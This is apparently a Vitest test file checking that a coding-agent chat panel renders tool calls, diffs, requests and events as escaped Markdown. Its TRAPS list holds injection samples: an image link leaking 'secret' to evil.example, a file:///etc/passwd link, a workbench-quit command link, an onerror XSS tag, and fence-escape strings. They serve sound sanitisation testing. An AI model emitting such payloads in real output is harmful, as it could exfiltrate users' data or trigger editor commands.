import { describe, expect, it } from 'vitest';
import { toEventBody } from '../../src/protocol/frontend-v2-events.js';
import { OPAQUE_LIMIT } from '../../src/selectors/bounds.js';
import { fallbackOf } from '../../src/selectors/fallback.js';
import {
  EDITOR_PARTS,
  type ChatPart,
  type RequestPart,
  type TextPart,
  type ToolPart,
} from '../../src/selectors/parts.js';

const text = (kind: TextPart['kind'], content: string): ChatPart => ({
  id: '1',
  editor: EDITOR_PARTS[kind],
  kind,
  text: content,
});
const tool = (rest: Partial<ToolPart>): ChatPart => ({
  id: '1',
  editor: EDITOR_PARTS.tool,
  kind: 'tool',
  callId: 'c',
  name: 'bash',
  phase: 'completed',
  ...rest,
});
const diff = (patch: string, files: readonly string[]): ChatPart => ({
  id: '1',
  editor: EDITOR_PARTS.diff,
  kind: 'diff',
  patch,
  files,
});
const request = (rest: Partial<RequestPart>): ChatPart => ({
  id: '1',
  editor: EDITOR_PARTS.request,
  kind: 'request',
  requestId: 7,
  requestKind: 'approval',
  title: 'bash: ls',
  answers: [],
  ...rest,
});
const resolution = (content: string): ChatPart => ({
  id: '1',
  editor: EDITOR_PARTS.resolution,
  kind: 'resolution',
  requestId: 7,
  text: content,
});
const opaque = (eventKind: string, content: string): ChatPart => ({
  id: '1',
  editor: EDITOR_PARTS.opaque,
  kind: 'opaque',
  eventKind,
  text: content,
});

/** The Markdown of the one piece that a part falls back to. */
function markdown(part: ChatPart): string {
  const [piece, ...more] = fallbackOf(part);
  expect([piece?.kind, more]).toEqual(['markdown', []]);
  return piece?.text ?? '';
}

describe('a part on stable API', () => {
  it('of assistant text is that text', () => {
    expect(fallbackOf(text('markdown', '# As [it](https://x) is\n'))).toEqual([
      { kind: 'markdown', text: '# As [it](https://x) is\n' },
    ]);
    expect(fallbackOf(text('markdown', ''))).toEqual([]);
  });

  it('of progress is one line', () => {
    expect(fallbackOf(text('progress', '12 tokens\nin all'))).toEqual([{ kind: 'progress', text: '12 tokens in all' }]);
  });

  it('of a warning is a labelled quotation', () => {
    expect(markdown(text('warning', 'It broke\n\n# here'))).toBe(
      '\n\n> ⚠ **Warning:** It broke  \n>   \n> \\# here\n\n',
    );
  });

  it('of thinking is a quotation', () => {
    expect(markdown(text('thinking', 'first\nsecond'))).toBe('\n\n> first  \n> second\n\n');
  });

  it('of a notice or a resolution is set apart', () => {
    expect(markdown(text('notice', ' Stopped. '))).toBe('\n\n*Stopped\\.*\n\n');
    expect(markdown(text('notice', 'two\nlines'))).toBe('\n\ntwo  \nlines\n\n');
    expect(markdown(resolution('Allowed: _x_'))).toBe('\n\n*Allowed\\: \\_x\\_*\n\n');
  });

  it('of output is a fence', () => {
    expect(markdown(text('output', 'a\n```\nb'))).toBe('\n\n````\na\n```\nb\n````\n\n');
  });

  it('of a tool is a line while it runs, then its labelled result', () => {
    expect(fallbackOf(tool({ phase: 'started', input: 'ls *' }))).toEqual([
      { kind: 'progress', text: 'Running bash\\: ls \\*' },
    ]);
    expect(fallbackOf(tool({ phase: 'started', input: '{\n}' }))).toEqual([{ kind: 'progress', text: 'Running bash' }]);
    expect(markdown(tool({ input: 'ls', output: 'a.txt' }))).toBe(
      '\n\n**Tool** `bash` finished\n\n```\nls\n```\n\n**Result**\n\n```\na.txt\n```\n\n',
    );
    expect(markdown(tool({ isError: true, output: '' }))).toBe('\n\n**Tool** `bash` failed\n\n');
    expect(markdown(tool({ phase: 'abandoned' }))).toBe('\n\n**Tool** `bash` ended without a result\n\n');
  });

  it('of a diff is a fence below its files', () => {
    expect(markdown(diff('+a', ['x', 'y`z']))).toBe('\n\n**Changes** in `x`, ``y`z``\n\n```diff\n+a\n```\n\n');
    expect(markdown(diff('+a', []))).toContain('**Changes**\n\n```diff');
    const many = Array.from({ length: 25 }, (_, i) => `f${i}`);
    expect(markdown(diff('+a', many))).toContain('`f19` and 5 more\n');
  });

  it('[defect C42] of a request is its title above its preview', () => {
    expect(markdown(request({ preview: 'ls *' }))).toBe('\n\n**bash\\: ls**\n\n```\nls *\n```\n\n');
    expect(markdown(request({ unanswerable: 'Claude answers this.' }))).toBe(
      '\n\n**bash\\: ls**\n\n*The runtime supplied no preview\\.*\n\n*Claude answers this\\.*\n\n',
    );
  });

  it('of what we have no form for names it', () => {
    expect(markdown(opaque('plan_<b>', '{"a":1}'))).toBe('\n\n#### plan\\_\\<b\\>\n\n```\n{"a":1}\n```\n\n');
  });

  it('[fault 59] of an unknown event of 10 MB, or that contains itself, is one bounded cell', () => {
    const circle: Record<string, unknown> = { big: 'x'.repeat(1000) };
    circle['$ref'] = circle;
    circle['again'] = [circle, circle];
    for (const payload of [{ blob: 'x'.repeat(10_000_000) }, circle]) {
      const body = toEventBody('mystery', payload);
      if (body.kind !== 'opaque') throw new Error('an unknown kind has to stay opaque');
      const cell = markdown(opaque(body.eventKind, body.preview));
      expect(cell).toContain('#### mystery');
      expect(cell.length).toBeLessThan(OPAQUE_LIMIT + 100);
    }
  });
});

const TRAPS = [
  '[x](command:workbench.action.quit)',
  '[x](vscode://settings/x)',
  '<a href="file:///etc/passwd">x</a>',
  '![x](https://evil.example/?q=secret)',
  'https://evil.example',
  '<img src=x onerror=y>',
  '$(trash)',
];

const outside: readonly [string, (trap: string) => ChatPart][] = [
  ['progress', (trap) => text('progress', trap)],
  ['a warning', (trap) => text('warning', trap)],
  ['thinking', (trap) => text('thinking', trap)],
  ['a notice', (trap) => text('notice', trap)],
  ['output', (trap) => text('output', trap)],
  ['a tool that runs', (trap) => tool({ phase: 'started', name: trap, input: trap })],
  ['a tool that ended', (trap) => tool({ name: trap, input: trap, output: trap })],
  ['a diff', (trap) => diff(trap, [trap])],
  ['a request', (trap) => request({ title: trap, preview: trap, unanswerable: trap })],
  ['a resolution', (trap) => resolution(trap)],
  ['an opaque event', (trap) => opaque(trap, trap)],
];

/** What Markdown is left once code and escaped characters are taken out: only what this product wrote itself. */
function ownMarkdown(source: string): string {
  return source
    .replace(/^(?:> )?(`{3,})[^`\n]*\n(?:[^]*?\n)??\1`*$/gm, '')
    .replace(/(?<![\\`])(`+)(?!`)[^]*?(?<!`)\1(?!`)/g, '')
    .replace(/\\[!-/:-@[-`{-~]/g, '');
}

describe('text from outside, where Markdown is built', () => {
  it.each(outside)('[fault 54] is only text in %s', (_, part) => {
    for (const trap of TRAPS) {
      const built = fallbackOf(part(trap));
      expect(built.length).toBeGreaterThan(0);
      for (const { text: source } of built) expect(ownMarkdown(source)).not.toMatch(/[[\]<()!$]|:\/\/|command:/);
    }
  });

  it.each(outside)('[fault 53] does not get out of %s by a fence', (_, part) => {
    for (const trap of [
      '```\n[x](command:y)',
      '~~~\n[x](command:y)',
      'a\n````\n[x](command:y)\n```',
      '``` unclosed [x](command:y)',
    ]) {
      for (const { text: source } of fallbackOf(part(trap))) {
        expect(ownMarkdown(source)).not.toMatch(/[[\]<()!$~]|command:/);
      }
    }
  });
});
